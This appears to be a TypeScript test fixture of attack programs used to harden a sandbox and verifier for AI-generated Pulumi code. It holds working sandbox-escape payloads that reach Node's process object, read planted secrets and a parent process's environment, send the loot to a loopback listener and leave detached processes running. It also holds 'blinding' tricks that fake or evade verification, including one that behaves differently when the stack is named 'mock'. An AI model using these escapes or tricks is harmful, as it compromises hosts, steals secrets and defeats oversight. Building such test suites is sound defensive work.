/**
 * Programs an attacker could steer the model into writing: escapes that try to reach the host (write a file
 * outside the run dir, read a planted secret, connect to a listener, leave a process behind) and blinding
 * tricks that try to make a broken program come out verified. Placeholders are filled per test run:
 * `__SECRET_FILE__` (a planted secret), `__OUT_FILE__` (a host path outside the run dir), `__HOST_DIR__`,
 * `__PORT__` (a loopback listener), `__MARKER__` (an argv marker for processes that must not survive).
 */
export interface Attack {
  readonly name: string;
  /** The program (index.ts). */
  readonly source: string;
  /** Also run straight through the sandboxed mock runner, bypassing gate and typecheck. */
  readonly execute: boolean;
  /**
   * A blinding trick around a broken program: run straight through the runner, the parent's record must
   * still show what is broken (an error finding).
   */
  readonly blinds?: true;
}

const HEADER = `import * as pulumi from '@pulumi/pulumi';
import * as aws from '@pulumi/aws';
`;

/** What every escape does once it holds `process` (p): all four host effects, loot kept in a resource. */
const PAYLOAD = `
function attack(p: any): string {
  const req = (name: string): any => p.getBuiltinModule(name);
  let loot = '';
  try { req('fs').writeFileSync('__OUT_FILE__', 'escaped'); } catch (e) { loot += ''; }
  try { loot += req('fs').readFileSync('__SECRET_FILE__', 'utf8'); } catch (e) { loot += ''; }
  try { loot += req('fs').readFileSync('/proc/' + p.ppid + '/environ', 'utf8'); } catch (e) { loot += ''; }
  loot += String(p.env.PULUMI_GEN_ATTACK_SECRET ?? '');
  try { const s = req('net').connect(__PORT__, '127.0.0.1'); s.on('error', () => undefined); s.end(loot); } catch (e) { loot += ''; }
  try {
    req('child_process').spawn(p.execPath, ['-e', 'setInterval(() => {}, 1000)', '__MARKER__'], { detached: true, stdio: 'ignore' }).unref();
  } catch (e) { loot += ''; }
  return loot;
}
`;

/** An escape: `obtain` is an expression that yields `process`. */
function escape(name: string, obtain: string, imports = ''): Attack {
  return {
    name,
    execute: true,
    source: `${HEADER}${imports}${PAYLOAD}
const proc: any = ${obtain};
new aws.s3.Bucket('loot', { tags: { loot: attack(proc) } });
`,
  };
}

/** A blinding trick around a program the mock run must reject (an invalid enum value typecheck allows). */
function blinding(name: string, trick: string, imports = ''): Attack {
  return {
    name,
    execute: true,
    blinds: true,
    source: `${HEADER}${imports}${trick}
const bucket = new aws.s3.Bucket('site');
const status: string = 'enabled';
new aws.s3.BucketVersioning('site', { bucket: bucket.id, versioningConfiguration: { status } });
`,
  };
}

const FN = `(() => 0)`;

export const ATTACKS: readonly Attack[] = [
  escape('computed constructor key', `(${FN} as any)[('con' + 'structor')]('return process')()`),
  escape('parenthesised constructor key', `((${FN} as any)[('constructor')])('return process')()`),
  escape('template constructor key', `(${FN} as any)[\`constructor\`]('return process')()`),
  escape(
    'destructured constructor',
    `(() => { const { constructor: F } = ${FN} as any; return F('return process')(); })()`,
  ),
  escape('Reflect.get', `Reflect.get(${FN}, 'constructor')('return process')()`),
  escape(
    'Object.getOwnPropertyDescriptor',
    `Object.getOwnPropertyDescriptor(Object.getPrototypeOf(${FN}), 'constructor')!.value('return process')()`,
  ),
  escape('CommonJS wrapper arguments', `(arguments as any)[1]('process')`),
  escape('globalThis.process', `(globalThis as any).process`),
  escape('eval', `eval('process')`),
  escape('Function global', `Function('return process')()`),
  escape(
    'setTimeout string',
    `(() => { setTimeout('1' as any, 0); return Function('return process')(); })()`,
  ),
  escape(
    'Proxy over a package namespace',
    `new Proxy(aws as any, {}).constructor.constructor('return process')()`,
  ),
  escape(
    'package namespace as a value',
    `(Object.values(pulumi as any) as any[])[0].constructor('return process')()`,
  ),
  {
    name: '@pulumi/pulumi/../../<pkg> import (typescript ts.sys)',
    execute: true,
    source: `${HEADER}import * as ts from '@pulumi/pulumi/../../typescript';
const sys: any = (ts as any).sys;
try { sys.writeFile('__OUT_FILE__', 'escaped'); } catch (e) { /* read-only */ }
new aws.s3.Bucket('loot', { tags: { loot: String(sys.readFile('__SECRET_FILE__') ?? '') + String(sys.getEnvironmentVariable('PULUMI_GEN_ATTACK_SECRET') ?? '') } });
`,
  },
  {
    name: 'vendored TypeScript inside @pulumi/pulumi (ts.sys)',
    execute: true,
    source: `${HEADER}import * as ts from '@pulumi/pulumi/vendor/typescript@3.8.3/typescript';
const sys: any = (ts as any).sys;
try { sys.writeFile('__OUT_FILE__', 'escaped'); } catch (e) { /* read-only */ }
new aws.s3.Bucket('loot', { tags: { loot: String(sys.readFile('__SECRET_FILE__') ?? '') } });
`,
  },
  {
    name: 'automation.PulumiCommand',
    execute: true,
    source: `${HEADER}pulumi.automation.PulumiCommand.install({ root: '__HOST_DIR__/cli' }).catch(() => undefined);
pulumi.automation.LocalWorkspace.create({ workDir: '__HOST_DIR__' }).catch(() => undefined);
new aws.s3.Bucket('site');
`,
  },
  {
    name: 'named automation import',
    execute: false,
    source: `${HEADER}import { automation } from '@pulumi/pulumi';
automation.LocalWorkspace.create({ workDir: '__HOST_DIR__' }).catch(() => undefined);
`,
  },
  {
    name: 'the SDK tracing endpoint',
    execute: true,
    source: `${HEADER}import * as tracing from '@pulumi/pulumi/cmd/run/tracing';
tracing.start('http://127.0.0.1:__PORT__/api/v2/spans');
tracing.newSpan('exfiltrate').end();
tracing.stop();
new aws.s3.Bucket('site');
`,
  },
  {
    name: 'kubernetes yaml.ConfigFile reading a host file and a URL',
    execute: true,
    source: `import * as k8s from '@pulumi/kubernetes';
new k8s.yaml.ConfigFile('secret', { file: '__SECRET_FILE__' });
new k8s.yaml.ConfigFile('remote', { file: 'http://127.0.0.1:__PORT__/manifest.yaml' });
`,
  },
  {
    name: 'kubernetes yaml.ConfigGroup globbing host files',
    execute: true,
    source: `import * as k8s from '@pulumi/kubernetes';
new k8s.yaml.ConfigGroup('all', { files: ['__HOST_DIR__/*'] });
`,
  },
  {
    name: 'kubernetes yaml submodule import',
    execute: false,
    source: `import * as yaml from '@pulumi/kubernetes/yaml';
new yaml.ConfigFile('secret', { file: '__SECRET_FILE__' });
`,
  },
  escape('/proc/<ppid>/environ', `Function('return process')()`),
  {
    name: 'detached grandchild in its own session',
    execute: true,
    source: `${HEADER}const p: any = Function('return process')();
p.getBuiltinModule('child_process').spawn('/bin/sh', ['-c', 'setsid sleep 30 __MARKER__ &'], { detached: true, stdio: 'ignore' }).unref();
p.getBuiltinModule('child_process').spawn(p.execPath, ['-e', 'setInterval(() => {}, 1000)', '__MARKER__'], { detached: true, stdio: 'ignore' }).unref();
new aws.s3.Bucket('site');
`,
  },
  blinding(
    'deleting the recording wrappers (an unwrapped require of the provider)',
    `const raw: any = (Function('return process')() as any).getBuiltinModule('module').createRequire('/x.js');
delete (aws as any).s3;
`,
  ),
  blinding(
    'pulumi.runtime.setMocks',
    `pulumi.runtime.setMocks({ newResource: (a: any) => ({ id: 'x', state: a.inputs }), call: (a: any) => a.inputs }, 'p', 's');
`,
  ),
  blinding(
    '@pulumi/pulumi/index (runtime through another specifier)',
    `(idx as any).runtime.setMocks({ newResource: (a: any) => ({ id: 'x', state: a.inputs }), call: (a: any) => a.inputs });
`,
    `import * as idx from '@pulumi/pulumi/index';
`,
  ),
  blinding(
    'replacing JSON.stringify',
    `JSON.stringify = (() => '{"registrations":[],"invokes":[],"calls":[],"errors":[],"completed":true}') as any;
`,
  ),
  blinding(
    'faking the result file',
    `const p: any = Function('return process')();
const job = JSON.parse(p.getBuiltinModule('fs').readFileSync(p.argv[2], 'utf8'));
p.getBuiltinModule('fs').writeFileSync(job.resultFile, '{"registrations":[],"invokes":[],"calls":[],"errors":[],"completed":true}');
`,
  ),
  {
    name: 'sniffing the stack name',
    execute: true,
    blinds: true,
    source: `${HEADER}const bucket = new aws.s3.Bucket('site');
const status: string = pulumi.getStack() === 'mock' ? 'Enabled' : 'enabled';
new aws.s3.BucketVersioning('site', { bucket: bucket.id, versioningConfiguration: { status } });
`,
  },
  {
    name: 'deep import skipping the argument check',
    execute: true,
    blinds: true,
    source: `import * as s3 from '@pulumi/aws/s3';
const args: any = { bucketPrefix: 'site', notAnInput: 'x' };
new s3.Bucket('site', args);
`,
  },
  blinding('@ts-nocheck', `const n: number = 'not a number';\n`, `// @ts-nocheck\n`),
  blinding('@ts-ignore', `// @ts-ignore\nconst n: number = 'not a number';\n`),
  blinding('@ts-expect-error', `// @ts-expect-error\nconst n: number = 'not a number';\n`),
  {
    name: 'memory exhaustion with Buffers',
    execute: true,
    source: `${HEADER}const keep: Buffer[] = [];
for (let i = 0; i < 64; i += 1) keep.push(Buffer.alloc(64 * 1024 * 1024, 1));
new aws.s3.Bucket('site');
`,
  },
  {
    name: 'writing through /tmp and the project directory',
    execute: true,
    source: `${HEADER}const p: any = Function('return process')();
const fs = p.getBuiltinModule('fs');
for (const target of ['/tmp/pulumi-gen-attack-__MARKER__', p.cwd() + '/pwned.txt', '__HOST_DIR__/pwned.txt']) {
  try { fs.writeFileSync(target, 'escaped'); } catch (e) { /* refused */ }
}
new aws.s3.Bucket('site');
`,
  },
];
